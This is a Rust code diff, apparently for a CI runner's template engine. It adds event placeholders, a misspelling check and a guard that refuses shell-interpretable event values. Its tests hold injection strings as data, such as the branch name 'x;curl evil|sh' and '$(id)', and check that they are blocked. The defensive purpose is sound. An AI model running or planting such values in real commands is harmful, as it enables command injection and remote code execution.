@@ -27,7 +27,34 @@ pub(crate) enum Ref<'a> {
     Config(&'a str),
     /// `{{ matrix.KEY }}`
     Matrix(&'a str),
+    /// `{{ event.… }}`
+    Event(EventRef<'a>),
+    /// `{{ ROOT.… }}` whose root is a likely misspelling of `config`, `matrix` or `event`
+    /// (other `{{ … }}` text is left alone: shell scripts and other template languages use
+    /// braces too).
+    Misspelt { root: &'a str, known: &'static str },
 }
+
+/// What an `{{ event.… }}` placeholder names.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum EventRef<'a> {
+    /// `{{ event.labels.KEY }}`
+    Label(&'a str),
+    /// `{{ event.source }}`
+    Source,
+    /// `{{ event.type }}`
+    Type,
+    /// `{{ event.trigger }}`
+    Trigger,
+    /// Anything else under `event.` (`{{ event.sha }}`): an error.
+    Unknown(&'a str),
+}
+
+/// The roots a template may name.
+pub(crate) const TEMPLATE_ROOTS: [&str; 3] = ["config", "matrix", "event"];
+
+/// What `{{ event.… }}` may name, for messages.
+pub const EVENT_FIELDS: &str = "event.labels.<key>, event.source, event.type, event.trigger";
 
 /// One `{{ ... }}` found in a template: byte range and what it refers to, if anything we
 /// expand.
@@ -35,6 +62,26 @@ struct Placeholder<'a> {
     start: usize,
     end: usize,
     target: Option<Ref<'a>>,
+}
+
+fn is_word(s: &str) -> bool {
+    !s.is_empty()
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+}
+
+fn event_ref(rest: &str) -> EventRef<'_> {
+    match rest {
+        "source" => EventRef::Source,
+        "type" => EventRef::Type,
+        "trigger" => EventRef::Trigger,
+        _ => match rest.strip_prefix("labels.") {
+            Some(key) if !key.is_empty() && !key.contains(char::is_whitespace) => {
+                EventRef::Label(key)
+            }
+            _ => EventRef::Unknown(rest),
+        },
+    }
 }
 
 fn placeholders(template: &str) -> Vec<Placeholder<'_>> {
@@ -55,14 +102,32 @@ fn placeholders(template: &str) -> Vec<Placeholder<'_>> {
         };
         let target = name("config.")
             .map(Ref::Config)
-            .or_else(|| name("matrix.").map(Ref::Matrix));
+            .or_else(|| name("matrix.").map(Ref::Matrix))
+            .or_else(|| name("event.").map(|rest| Ref::Event(event_ref(rest))))
+            .or_else(|| misspelt_root(inner));
         out.push(Placeholder { start, end, target });
         from = end;
     }
     out
 }
 
-/// What a template refers to (`{{ config.NAME }}`, `{{ matrix.KEY }}`).
+/// `{{ evnet.labels.sha }}`: a dotted name whose root is close to a known one.
+fn misspelt_root(inner: &str) -> Option<Ref<'_>> {
+    let (root, rest) = inner.split_once('.')?;
+    if !is_word(root) || rest.is_empty() || rest.contains(char::is_whitespace) {
+        return None;
+    }
+    if TEMPLATE_ROOTS.contains(&root) {
+        return None;
+    }
+    // Close in spelling (one or two edits) and not a short word of its own (`env`, `vars`).
+    let best = TEMPLATE_ROOTS.into_iter().find(|known| {
+        root.len() >= 4 && strsim::damerau_levenshtein(&root.to_lowercase(), known) <= 2
+    })?;
+    Some(Ref::Misspelt { root, known: best })
+}
+
+/// What a template refers to (`{{ config.NAME }}`, `{{ matrix.KEY }}`, `{{ event.… }}`).
 pub(crate) fn template_refs(template: &str) -> Vec<Ref<'_>> {
     placeholders(template)
         .into_iter()
@@ -70,48 +135,127 @@ pub(crate) fn template_refs(template: &str) -> Vec<Ref<'_>> {
         .collect()
 }
 
+/// The event or request an execution is planned from, as templates see it:
+/// `{{ event.source }}`, `{{ event.type }}`, `{{ event.trigger }}`, `{{ event.labels.KEY }}`.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct EventContext {
+    pub source: String,
+    pub r#type: String,
+    /// The trigger that fired (empty for run requests).
+    pub trigger: String,
+    pub labels: BTreeMap<String, String>,
+}
+
+/// What templates expand from: resolved config, one matrix combination and the event.
+/// A part left `None` leaves its placeholders as they are.
+#[derive(Debug, Clone, Copy)]
+pub struct TemplateVars<'a> {
+    pub config: &'a BTreeMap<String, String>,
+    pub matrix: Option<&'a BTreeMap<String, String>>,
+    pub event: Option<&'a EventContext>,
+}
+
+impl TemplateVars<'_> {
+    /// Expands a value that is not read by a shell (an environment variable's value).
+    pub fn expand(&self, template: &str) -> Result<String> {
+        expand_with(template, self, false)
+    }
+
+    /// Expands a shell command (`run`, `tests.list`, `tests.run`). Event values come from
+    /// outside (a webhook's branch name, a publisher's source), so one that a shell would
+    /// read as more than a plain word (`;`, `$`, quotes, spaces, …) is refused: pass it
+    /// through `env` and quote the variable instead.
+    pub fn expand_shell(&self, template: &str) -> Result<String> {
+        expand_with(template, self, true)
+    }
+}
+
 /// Expands `{{ config.NAME }}` (whitespace inside the braces optional) from resolved config.
 ///
-/// Other `{{ ... }}` text, `{{ matrix.KEY }}` included, is left as it is, so shell scripts
-/// that use braces keep working.
+/// Other `{{ ... }}` text, `{{ matrix.KEY }}` and `{{ event.… }}` included, is left as it
+/// is, so shell scripts that use braces keep working.
 pub fn expand(template: &str, config: &BTreeMap<String, String>) -> Result<String> {
-    expand_with(template, config, None)
+    let vars = TemplateVars {
+        config,
+        matrix: None,
+        event: None,
+    };
+    expand_with(template, &vars, false)
 }
 
 /// Expands `{{ config.NAME }}` from resolved config and `{{ matrix.KEY }}` from one matrix
-/// combination. Other `{{ ... }}` text is left as it is.
+/// combination. Other `{{ ... }}` text (`{{ event.… }}` too) is left as it is.
 pub fn expand_matrix(
     template: &str,
     config: &BTreeMap<String, String>,
     combination: &BTreeMap<String, String>,
 ) -> Result<String> {
-    expand_with(template, config, Some(combination))
+    let vars = TemplateVars {
+        config,
+        matrix: Some(combination),
+        event: None,
+    };
+    expand_with(template, &vars, false)
 }
 
-fn expand_with(
-    template: &str,
-    config: &BTreeMap<String, String>,
-    combination: Option<&BTreeMap<String, String>>,
-) -> Result<String> {
+/// Whether a shell reads `value` as one plain word: letters, digits and `-_./:@+=,%`.
+pub fn is_shell_word(value: &str) -> bool {
+    value
+        .chars()
+        .all(|c| c.is_alphanumeric() || "-_./:@+=,%".contains(c))
+}
+
+fn expand_with(template: &str, vars: &TemplateVars<'_>, shell: bool) -> Result<String> {
     let mut out = String::with_capacity(template.len());
     let mut last = 0;
     for p in placeholders(template) {
-        let value = match (p.target, combination) {
-            (Some(Ref::Config(name)), _) => {
-                config
+        let value = match (p.target, vars.matrix, vars.event) {
+            (Some(Ref::Config(name)), _, _) => {
+                vars.config
                     .get(name)
                     .ok_or_else(|| Error::UnknownTemplateVariable {
                         name: name.to_string(),
-                        known: config.keys().cloned().collect(),
+                        known: vars.config.keys().cloned().collect(),
                     })?
             }
-            (Some(Ref::Matrix(key)), Some(combination)) => {
+            (Some(Ref::Matrix(key)), Some(combination), _) => {
                 combination
                     .get(key)
                     .ok_or_else(|| Error::UnknownMatrixKey {
                         name: key.to_string(),
                         known: combination.keys().cloned().collect(),
                     })?
+            }
+            (Some(Ref::Event(field)), _, Some(event)) => {
+                let placeholder = template[p.start..p.end].to_string();
+                let value = match field {
+                    EventRef::Source => &event.source,
+                    EventRef::Type => &event.r#type,
+                    EventRef::Trigger => &event.trigger,
+                    EventRef::Label(key) => {
+                        event
+                            .labels
+                            .get(key)
+                            .ok_or_else(|| Error::MissingEventLabel {
+                                placeholder,
+                                name: key.to_string(),
+                                known: event.labels.keys().cloned().collect(),
+                            })?
+                    }
+                    EventRef::Unknown(rest) => {
+                        return Err(Error::UnknownEventField {
+                            placeholder,
+                            name: rest.to_string(),
+                        });
+                    }
+                };
+                if shell && !is_shell_word(value) {
+                    return Err(Error::UnsafeEventValue {
+                        placeholder: template[p.start..p.end].to_string(),
+                        value: value.clone(),
+                    });
+                }
+                value
             }
             _ => continue,
         };
@@ -287,6 +431,115 @@ mod tests {
         );
         let err = expand_matrix("{{ matrix.pyy }}", &c, &m).unwrap_err();
         assert!(err.to_string().contains("matrix.pyy"), "{err}");
+    }
+
+    #[test]
+    fn event_templates_expand_from_the_event() {
+        let c = cfg(&[("n", "3")]);
+        let m = cfg(&[("os", "linux")]);
+        let event = EventContext {
+            source: "github".into(),
+            r#type: "push".into(),
+            trigger: "on-push".into(),
+            labels: cfg(&[("sha", "abc123"), ("branch", "main")]),
+        };
+        let vars = TemplateVars {
+            config: &c,
+            matrix: Some(&m),
+            event: Some(&event),
+        };
+        assert_eq!(
+            vars.expand_shell(
+                "git checkout {{ event.labels.sha }} # {{event.source}}/{{ event.type }} by {{ event.trigger }} on {{ matrix.os }} n={{ config.n }}"
+            )
+            .unwrap(),
+            "git checkout abc123 # github/push by on-push on linux n=3"
+        );
+        // Without an event, event placeholders stay (the old functions keep their meaning).
+        assert_eq!(
+            expand_matrix("{{ event.labels.sha }} {{ matrix.os }}", &c, &m).unwrap(),
+            "{{ event.labels.sha }} linux"
+        );
+        let err = vars.expand("{{ event.labels.pr }}").unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "the event has no label \"pr\" (labels: branch, sha)"
+        );
+        match err {
+            Error::MissingEventLabel { placeholder, .. } => {
+                assert_eq!(placeholder, "{{ event.labels.pr }}")
+            }
+            other => panic!("{other:?}"),
+        }
+        let none = EventContext::default();
+        let vars_none = TemplateVars {
+            event: Some(&none),
+            ..vars
+        };
+        assert_eq!(
+            vars_none
+                .expand("{{ event.labels.sha }}")
+                .unwrap_err()
+                .to_string(),
+            "the event has no label \"sha\" (labels: none)"
+        );
+        let err = vars.expand("{{ event.sha }}").unwrap_err().to_string();
+        assert!(err.contains("names no event field \"event.sha\""), "{err}");
+    }
+
+    #[test]
+    fn event_values_a_shell_would_interpret_stay_out_of_commands() {
+        let c = cfg(&[]);
+        let event = EventContext {
+            labels: cfg(&[("branch", "x;curl evil|sh"), ("ok", "release/1.2_a-b")]),
+            ..Default::default()
+        };
+        let vars = TemplateVars {
+            config: &c,
+            matrix: None,
+            event: Some(&event),
+        };
+        let err = vars
+            .expand_shell("git checkout {{ event.labels.branch }}")
+            .unwrap_err();
+        assert!(matches!(err, Error::UnsafeEventValue { .. }), "{err:?}");
+        assert!(
+            err.to_string().contains("put it in the step's `env`"),
+            "{err}"
+        );
+        // The same value is fine where no shell reads it (an environment variable).
+        assert_eq!(
+            vars.expand("{{ event.labels.branch }}").unwrap(),
+            "x;curl evil|sh"
+        );
+        assert_eq!(
+            vars.expand_shell("{{ event.labels.ok }}").unwrap(),
+            "release/1.2_a-b"
+        );
+        for bad in [
+            "a b", "$(id)", "`id`", "a'b", "a\"b", "~root", "a&b", "a\nb", "*",
+        ] {
+            assert!(!is_shell_word(bad), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn template_refs_find_event_fields_and_misspelt_roots() {
+        let refs = template_refs(
+            "{{ event.labels.sha }} {{ event.source }} {{ event.sha }} {{ evnet.labels.x }} {{ env.X }} {{ item.name }} ${{ github.sha }}",
+        );
+        assert_eq!(
+            refs,
+            vec![
+                Ref::Event(EventRef::Label("sha")),
+                Ref::Event(EventRef::Source),
+                Ref::Event(EventRef::Unknown("sha")),
+                Ref::Misspelt {
+                    root: "evnet",
+                    known: "event"
+                },
+            ]
+        );
     }
 
     #[test]
